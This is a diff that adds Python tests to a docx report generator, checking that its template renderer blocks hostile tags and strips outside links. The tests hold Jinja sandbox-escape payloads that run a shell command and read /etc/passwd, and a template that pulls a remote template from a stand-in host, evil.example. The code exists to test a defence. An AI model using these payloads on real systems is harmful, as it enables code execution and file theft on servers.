@@ -386,3 +386,100 @@ def test_pdf_through_libreoffice(tmp_path, plan, progress, docx_bytes):
         assert LABELS["ky"]["col_status"] in pages[i][1]
     for mp in progress.measures:
         assert mp.measure_id in text
+
+
+# --- hostile templates: the sandbox and outside links ----------------------------------------
+
+_SUBCLASSES = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
+_CATCH = "{% if c.__name__ == 'catch_warnings' %}"
+RCE_TAG = (_SUBCLASSES + _CATCH + "{{ c()._module.__builtins__['__import__']('os')"
+           ".system('touch MARKER') }}{% endif %}{% endfor %}")
+READ_TAG = (_SUBCLASSES + _CATCH + "{{ c()._module.__builtins__['open']('/etc/passwd').read() }}"
+            "{% endif %}{% endfor %}")
+
+
+def _template_with_paragraph(tmp_path: Path, text: str) -> Path:
+    return _edit_template(tmp_path, lambda doc: doc.add_paragraph(text))
+
+
+def _cli_report(tmp_path: Path, plan, progress, template: Path):
+    from click.testing import CliRunner
+
+    from esep.cli import cli
+    from model.plan import plan_to_json
+    from model.progress import progress_to_json
+    plan_file, progress_file = tmp_path / "plan.json", tmp_path / "progress.json"
+    plan_file.write_text(plan_to_json(plan), encoding="utf-8")
+    progress_file.write_text(progress_to_json(progress), encoding="utf-8")
+    out = tmp_path / "report.docx"
+    result = CliRunner().invoke(cli, ["report", str(plan_file), "--progress", str(progress_file),
+                                      "--year", str(YEAR), "--template", str(template),
+                                      "-o", str(out)])
+    return result, out
+
+
+@pytest.mark.parametrize("kind", ["run a command", "read a file"])
+def test_a_template_runs_no_code_and_reads_no_file(tmp_path, plan, progress, kind):
+    marker = tmp_path / "ran"
+    tag = RCE_TAG.replace("MARKER", str(marker)) if kind == "run a command" else READ_TAG
+    template = _template_with_paragraph(tmp_path, tag)
+    before = template.read_bytes()
+    result, out = _cli_report(tmp_path, plan, progress, template)
+    assert result.exit_code == 1, result.output
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1, result.stderr
+    assert lines[0].startswith(f"Error: {template}: a tag «{_SUBCLASSES}»")
+    assert "'__class__'" in lines[0] and "Traceback" not in result.output
+    assert not marker.exists() and not out.exists() and "root:" not in result.output
+    assert template.read_bytes() == before
+
+
+def test_a_template_reaches_no_global_and_changes_no_value(tmp_path, plan, progress):
+    for tag in ("{{ lipsum.__globals__ }}", "{{ summary.append(1) }}", "{{ L.__init__ }}"):
+        with pytest.raises(TemplateError) as exc:
+            render_report(plan, progress, YEAR, template=_template_with_paragraph(tmp_path, tag))
+        assert str(tmp_path / "edited.docx") in str(exc.value), tag
+
+
+ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+
+
+def _template_with_outside_links(tmp_path: Path) -> Path:
+    """Return a template that attaches a remote template and shows a picture linked by path."""
+    from docx.oxml import parse_xml
+
+    from render.chart import status_chart
+
+    def edit(doc):
+        settings_part = doc.part._settings_part
+        settings = settings_part.element
+        rid = settings_part.rels.get_or_add_ext_rel(ATTACHED, "http://evil.example/t.dotm")
+        settings.append(parse_xml(f'<w:attachedTemplate xmlns:w="{settings.nsmap["w"]}" '
+                                  f'xmlns:r="{_oxml._R_NS[1:-1]}" r:id="{rid}"/>'))
+        png = status_chart([("1", {OUTCOME_DONE: 1})], OUTCOME_LABELS["ky"], "x")
+        doc.add_picture(io.BytesIO(png))
+        blip = next(doc.element.body.iter(qn("a:blip")))
+        del blip.attrib[qn("r:embed")]
+        blip.set(qn("r:link"), doc.part.rels.get_or_add_ext_rel(IMAGE, "file://server/share/x.png"))
+        doc.add_paragraph().add_run("site")
+        doc.part.relate_to("https://mchs.gov.kg", _oxml._HYPERLINK, is_external=True)
+    return _edit_template(tmp_path, edit)
+
+
+def test_outside_links_of_a_template_are_dropped_with_a_warning(tmp_path, plan, progress):
+    import zipfile
+
+    from render.report import render_data
+    template = _template_with_outside_links(tmp_path)
+    warnings: list[str] = []
+    report = render_data(report_data(plan, progress, YEAR), template, warnings.append)
+    assert len(warnings) == 2 and all(w.startswith(f"{template}: the template links") for w in warnings)
+    assert any("evil.example" in w for w in warnings) and any("share/x.png" in w for w in warnings)
+    with zipfile.ZipFile(io.BytesIO(report)) as z:
+        rels = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
+        assert "evil.example" not in rels and "x.png" not in rels
+        assert "https://mchs.gov.kg" in rels  # a hyperlink is fetched only when clicked
+        assert b"attachedTemplate" not in z.read("word/settings.xml")
+        assert b"r:link" not in z.read("word/document.xml")
+    Document(io.BytesIO(report))  # still a document python-docx opens
